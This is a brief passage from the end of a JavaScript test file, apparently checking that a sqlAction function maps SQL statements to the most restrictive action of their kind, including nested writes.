    ])('maps %s to %s: the most restrictive of its kind and its nested writes', (sql, action) => {
      expect(sqlAction(only(sql))).toBe(action);
    });
  });
});
